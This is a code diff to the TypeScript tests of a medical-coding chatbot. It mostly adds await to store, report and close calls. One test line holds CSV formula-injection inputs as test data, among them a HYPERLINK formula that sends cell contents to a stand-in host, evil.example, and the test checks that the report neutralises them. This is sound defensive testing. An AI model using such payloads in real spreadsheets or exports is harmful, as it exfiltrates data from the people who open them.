@@ -112,7 +112,7 @@ describe('Direct Line over HTTP, local mode', () => {
   beforeAll(async () => {
     s = await serveInProcess({ CODEBOT_RATE_PER_USER: '2', CODEBOT_DIRECTLINE_PER_MINUTE: '5' });
   });
-  afterAll(() => s.close());
+  afterAll(async () => await s.close());
 
   const open = async () => {
     const r = await fetch(`${s.base}/directline/conversations`, { method: 'POST' });
@@ -328,7 +328,7 @@ describe('the report and feedback take nothing from the client on trust', () => 
     for (const q of ['=HYPERLINK("http://evil.example/?x="&A1,"click") carpal tunnel release code', '+SUM(A1:A9) hip replacement code', '-2+3 shoulder replacement code', '@cmd elbow replacement code', 'first\rsecond hair transplant code']) {
       await b.handle({ text: q, conversation: { platform: 't', channel: randomUUID(), thread: null }, user: 'u' });
     }
-    const csv = formatReport(buildReport(store, new Date(0)), 'csv');
+    const csv = formatReport(await buildReport(store, new Date(0)), 'csv');
     const cells = csv.split(/\n/).map((l) => l.split(',')[1] ?? '');
     for (const cell of cells) expect(cell).not.toMatch(/^"?[=+\-@]/);
     expect(csv).toContain(`"'=HYPERLINK(`);
@@ -342,10 +342,10 @@ describe('the report and feedback take nothing from the client on trust', () => 
     const { Assistant } = await import('../src/assistant/assistant.js');
     const b = new Assistant(assistant().kb, assistant().nlu, { store, limits: null });
     await b.handle({ text: 'what is J12.4', conversation: { platform: 't', channel: 'c', thread: null }, user: 'u' });
-    b.feedback({ platform: 't', channel: 'c', user: 'u', helpful: true, ...({ intent: '943 476 5919', guidance: ['SW1A 1AA'] } as object) });
-    const [row] = store.feedbackRows(new Date(0));
+    await b.feedback({ platform: 't', channel: 'c', user: 'u', helpful: true, ...({ intent: '943 476 5919', guidance: ['SW1A 1AA'] } as object) });
+    const [row] = await store.feedbackRows(new Date(0));
     expect(row).toMatchObject({ intent: 'code_lookup', guidance: ['IPG327'], helpful: true });
-    expect(JSON.stringify(store.feedbackRows(new Date(0)))).not.toMatch(/5919|SW1A/);
+    expect(JSON.stringify(await store.feedbackRows(new Date(0)))).not.toMatch(/5919|SW1A/);
   });
 });
 
@@ -355,15 +355,15 @@ describe('the SQLite store on disk', () => {
     const file = path.join(tmp('expire'), 'db.sqlite');
     const s = new SqliteStore(file, { stateTtlMs: 1000, eventTtlMs: 500, now: () => now });
     await s.conversations.set('k1', { guidance: 'IPG327', group: null, codes: [], intent: null, question: null });
-    s.events.claim('Ev1');
-    s.events.done('Ev1');
+    await s.events.claim('Ev1');
+    await s.events.done('Ev1');
     now += 2000;
-    expect(s.expire()).toEqual({ conversations: 1, events: 1 });
+    expect(await s.expire()).toEqual({ conversations: 1, events: 1 });
     const db = new Database(file, { readonly: true });
     expect(db.prepare('SELECT count(*) AS n FROM conversations').get()).toEqual({ n: 0 });
     expect(db.prepare('SELECT count(*) AS n FROM events').get()).toEqual({ n: 0 });
     db.close();
-    s.close();
+    await s.close();
   });
 
   const root = process.getuid?.() === 0;
@@ -426,7 +426,7 @@ describe('the SQLite store on disk', () => {
       }
     } finally {
       await s.close();
-      store.close();
+      await store.close();
       rmSync(dir, { recursive: true, force: true });
     }
   });
@@ -567,8 +567,8 @@ describe('feedback is credited to the answer whose button was pressed', () => {
       };
       expect((await send(formBody({ payload: JSON.stringify(payload) }), 'application/x-www-form-urlencoded')).status).toBe(200);
       await slack.waitFor(from, 3);
-      const audits = store.auditRows(new Date(0));
-      const [fb] = store.feedbackRows(new Date(0));
+      const audits = await store.auditRows(new Date(0));
+      const [fb] = await store.feedbackRows(new Date(0));
       expect(fb!.auditId).toBe(audits.find((r) => r.guidance.includes('IPG327'))!.id);
       expect(fb!.guidance).toEqual(['IPG327']);
     } finally {
